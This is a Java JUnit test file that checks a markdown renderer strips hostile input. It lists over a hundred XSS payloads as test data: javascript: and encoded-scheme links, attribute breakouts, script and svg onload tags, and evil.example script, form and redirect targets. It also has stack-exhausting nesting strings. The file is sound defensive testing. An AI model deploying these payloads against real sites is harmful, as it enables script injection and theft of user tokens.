package dev.broadsheet.markup;

import static org.assertj.core.api.Assertions.assertThat;

import dev.broadsheet.contracts.article.Block;
import java.util.List;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.function.Function;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.jsoup.parser.ParseErrorList;
import org.jsoup.parser.Parser;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What somebody might type to harm readers. A browser's view of the HTML decides, not the HTML's look. */
class HostileTextTest {

    private static final Set<String> ELEMENTS =
            Set.of("p", "em", "strong", "code", "a", "br", "h2", "blockquote", "ul", "li");

    private static final int SMALL_STACK = 256 * 1024;

    static List<String> hostileTexts() {
        return List.of(
                // Links that run something.
                "[a](javascript:alert(1))",
                "[a](<javascript:alert(1)>)",
                "[a](JaVaScRiPt:alert(1))",
                "[a](data:text/html;base64,PHNjcmlwdD4=)",
                "[a](DATA:text/html,<script>alert(1)</script>)",
                "[a](vbscript:msgbox(1))",
                "[a](file:///etc/passwd)",
                "[a](blob:https://example.org/1)",
                "[a](view-source:https://example.org)",
                "[a](ftp://example.org)",
                "[a](tel:123)",
                "[a](intent://example.org)",
                // Schemes in disguise.
                "[a](&#106;avascript:alert(1))",
                "[a](&#x6A;avascript:alert(1))",
                "[a](&#0000106avascript:alert(1))",
                "[a](javascript&colon;alert(1))",
                "[a](java&Tab;script:alert(1))",
                "[a](java&NewLine;script:alert(1))",
                "[a](\\javascript:alert(1))",
                "[a](javascript\\:alert(1))",
                "[a](<java\tscript:alert(1)>)",
                "[a](<java script:alert(1)>)",
                "[a](< javascript:alert(1)>)",
                "[a](<\u0001javascript:alert(1)>)",
                "[a](&#1;javascript:alert(1))",
                "[a](&#32;javascript:alert(1))",
                "[a](&#160;javascript:alert(1))",
                "[a](\u00A0javascript:alert(1))",
                "[a](\u2028javascript:alert(1))",
                "[a](\uFEFFjavascript:alert(1))",
                "[a](java\u0000script:alert(1))",
                "[a](\uFF4Aavascript:alert(1))",
                "[a](%6Aavascript:alert(1))",
                "[a](javascript%3Aalert(1))",
                "[a](javascript://example.org/%0aalert(1))",
                "[a](feed:javascript:alert(1))",
                "[a](//evil.example)",
                "[a](/\\evil.example)",
                "[a](https:\\\\evil.example)",
                "[a](?x)",
                "[a](#x)",
                // Autolinks.
                "<javascript:alert(1)>",
                "<JAVASCRIPT:alert(1)>",
                "<data:text/html,x>",
                "<vbscript:x>",
                "<https://example.org/\"onmouseover=\"alert(1)>",
                "<https://example.org/'onmouseover='alert(1)>",
                "<a@example.org\"onclick=\"x>",
                // Links by reference.
                "[a]\n\n[a]: javascript:alert(1)",
                "[a]: javascript:alert(1)\n\n[a] and [b][a] and [a][]",
                "[a]: <data:text/html,x> \"onclick='x'\"\n[a]",
                "[a]: https://example.org \"\\\" onmouseover=alert(1) x=\\\"\"\n\n[a]",
                "![a]\n\n[a]: javascript:alert(1)",
                // Ways out of an attribute.
                "[a](https://example.org/\"onmouseover=\"alert(1))",
                "[a](https://example.org/'onmouseover='alert(1))",
                "[a](<https://example.org/\" onmouseover=\"alert(1)>)",
                "[a](<https://example.org/'><script>alert(1)</script>)",
                "[a](https://example.org/&quot;onmouseover=&quot;alert(1))",
                "[a](https://example.org/&#34;&#62;&#60;script&#62;)",
                "[a](https://example.org \"title\\\" onmouseover=\\\"alert(1)\")",
                "[a](https://example.org '\"><img src=x onerror=alert(1)>')",
                "[a](https://example.org/`onmouseover=alert(1))",
                "[\"onclick=x](https://example.org)",
                "[a](mailto:a@example.org?subject=\"><script>alert(1)</script>)",
                "[<img src=x onerror=alert(1)>](https://example.org)",
                "[</a><script>alert(1)</script>](https://example.org)",
                // Links in links.
                "[a <https://b.example>](https://a.example)",
                "[a <javascript:alert(1)>](https://a.example)",
                "[![a <https://b.example>](https://i.example)](https://a.example)",
                "[a [b](https://b.example)](https://a.example)",
                // Images, and links in them.
                "![a](javascript:alert(1))",
                "![a](https://tracker.example/pixel.gif)",
                "![a\" onerror=\"alert(1)](x)",
                "![a](x \"onerror=alert(1)\")",
                "[![a](javascript:alert(1))](javascript:alert(2))",
                "[![a](https://tracker.example/i.png)](https://example.org)",
                "[![see [b](https://b.example)](https://a.example)](https://c.example)",
                "[![see [b](javascript:alert(1))](https://a.example)](https://c.example)",
                "![![![a](javascript:alert(1))](data:,)](x)",
                // HTML.
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)>",
                "<svg/onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<iframe srcdoc=\"<script>alert(1)</script>\">",
                "<a href=\"javascript:alert(1)\">a</a>",
                "<p style=\"background:url(javascript:alert(1))\">",
                "<style>@import 'https://evil.example';</style>",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=refresh content=0;url=https://evil.example>",
                "<form action=https://evil.example><input name=token></form>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<!--><script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?php echo 1 ?><script>",
                "<!DOCTYPE html><script>",
                "</p></li></ul></blockquote></h2></body><script>alert(1)</script>",
                "<<script>alert(1)//<</script>",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&amp;lt;script&amp;gt;",
                "&#60;script&#62;alert(1)&#60;/script&#62;",
                "`<script>alert(1)</script>`",
                "`</code><script>alert(1)</script>`",
                "``` `</code><svg onload=x>` ```",
                "*<script>*alert(1)</script>",
                "**<img src=\"**\" onerror=alert(1)>",
                "<b *>*</b>",
                "\\<script>alert(1)\\</script>",
                "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "{{constructor.constructor('alert(1)')()}} {inject:x} ${7*7}",
                // What would be a block elsewhere.
                "```html\n<script>alert(1)</script>\n```",
                "    <script>alert(1)</script>",
                "> <script>alert(1)</script>",
                "- <script>alert(1)</script>",
                "<div>\n\n*a*\n\n<script>alert(1)</script>\n\n</div>",
                "a\n\n<table><tr><td onclick=x>",
                "a\n---\n# b\n***");
    }

    static List<String> bombs() {
        return List.of(
                "*a **b ", "*", "**a", "_a __b ", "[", "![", "![[]()", "[a](", "`", "`a``", "<a ", "<", "&", "\\");
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void theWordsOfABlockAreHarmless(String text) {
        assertHarmless("<p>" + InlineMarkdown.of(text).html() + "</p>");
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void aBodyIsHarmlessWhereverTheTextStands(String text) {
        for (Block.Kind kind : Block.Kind.values()) {
            assertHarmless(BodyMarkup.html(List.of(new Block(kind, text, text, List.of(text, text)))));
        }
    }

    @ParameterizedTest
    @MethodSource("hostileTexts")
    void aMailOfTextNamesNoAddressThatIsNotSafe(String text) {
        assertThat(BodyMarkup.text(
                        List.of(new Block(Block.Kind.PARAGRAPH, null, "[words](javascript:x) " + text, null))))
                .startsWith("words ");
    }

    @ParameterizedTest
    @MethodSource("bombs")
    void nestingHarmsNobodyEvenOnASmallStack(String bomb) {
        String opened = bomb.repeat(5000 / bomb.length());

        assertHarmlessOnASmallStack(opened);
        assertHarmlessOnASmallStack(opened + "*".repeat(200));
        assertHarmlessOnASmallStack(opened + "](https://example.org)".repeat(500));
    }

    @ParameterizedTest
    @ValueSource(ints = {17, 100, 1000})
    void closedNestingHarmsNobodyEither(int depth) {
        assertHarmlessOnASmallStack(InlineMarkdownTest.nested(depth));
        assertHarmlessOnASmallStack("![".repeat(depth) + "a" + "](https://example.org)".repeat(depth));
        assertHarmlessOnASmallStack("*".repeat(depth) + "a" + "*".repeat(depth));
        assertHarmlessOnASmallStack(
                "[![".repeat(depth) + "a" + "](https://a.example)](https://b.example)".repeat(depth));
    }

    private static void assertHarmlessOnASmallStack(String text) {
        InlineMarkdown markdown = onASmallStack(text, InlineMarkdown::of);
        assertHarmless("<p>" + onASmallStack(markdown, InlineMarkdown::html) + "</p>");
        assertThat(onASmallStack(markdown, InlineMarkdown::plain)).isNotNull();
        assertThat(onASmallStack(markdown, InlineMarkdown::text)).isNotNull();
        assertThat(onASmallStack(markdown, InlineMarkdown::depth)).isNotNegative();
        assertThat(onASmallStack(markdown, InlineMarkdown::hasOnlySafeLinks)).isNotNull();
        assertHarmless(
                onASmallStack(List.of(new Block(Block.Kind.BULLETS, text, text, List.of(text))), BodyMarkup::html));
    }

    private static void assertHarmless(String html) {
        ParseErrorList errors = ParseErrorList.tracking(10);
        Element body = Jsoup.parseBodyFragment(html).body();
        Parser.parseFragment(html, body, "", errors);
        assertThat(errors).as("nothing to repair in %s", html).isEmpty();
        for (Element element :
                body.getAllElements().subList(1, body.getAllElements().size())) {
            assertThat(element.normalName()).as(html).isIn(ELEMENTS);
            for (Attribute attribute : element.attributes()) {
                assertThat(element.normalName() + " " + attribute.getKey())
                        .as(html)
                        .isEqualTo("a href");
                assertThat(attribute.getValue()).as(html).matches("(?i)(https?|mailto):[^\\s\\p{Cntrl}]*");
            }
        }
    }

    private static <T, R> R onASmallStack(T input, Function<T, R> work) {
        CompletableFuture<R> result = new CompletableFuture<>();
        Thread thread = new Thread(
                null,
                () -> {
                    try {
                        result.complete(work.apply(input));
                    } catch (Throwable e) {
                        result.completeExceptionally(e);
                    }
                },
                "small-stack",
                SMALL_STACK);
        thread.start();
        return result.orTimeout(60, TimeUnit.SECONDS).join();
    }
}
